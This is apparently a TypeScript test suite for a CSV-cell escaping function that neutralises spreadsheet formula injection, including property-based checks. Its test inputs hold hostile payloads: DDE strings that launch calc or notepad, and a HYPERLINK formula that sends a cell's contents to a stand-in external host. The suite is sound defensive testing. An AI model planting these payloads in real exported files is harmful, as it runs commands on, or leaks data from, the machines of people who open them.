import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { escapeCell, unescapeCell } from './csv-cell';

describe('a cell that a spreadsheet would run', () => {
  it.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://elsewhere.example?x="&A1,"Click")',
    '+1',
    "+cmd|' /C notepad'!'A1'",
    '-1',
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
  ])('%j gets an apostrophe in front, and is read back unchanged', (text) => {
    expect(escapeCell(text)).toBe(`'${text}`);
    expect(unescapeCell(escapeCell(text))).toBe(text);
  });

  it.each(['', 'Kettle', "'", "'tis", "o'clock", ' =1', '1-1', '499.5', 'a=b', '-100.10'])(
    '%j is left alone',
    (text) => {
      expect(escapeCell(text)).toBe(text);
      expect(unescapeCell(text)).toBe(text);
    },
  );

  it('is distinguished from one that begins with its own apostrophe', () => {
    expect(escapeCell("'=1")).toBe("''=1");
    expect(unescapeCell("''=1")).toBe("'=1");
  });

  it('never begins like a formula and is read back unchanged, whatever the text', () => {
    const tricky = fc
      .array(fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ' ', 'a', '＝'))
      .map((all) => all.join(''));
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: 'binary' }), tricky), (text) => {
        if (!/^-\d+\.\d\d$/.test(text))
          expect(escapeCell(text)).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
        expect(unescapeCell(escapeCell(text))).toBe(text);
      }),
    );
  });
});
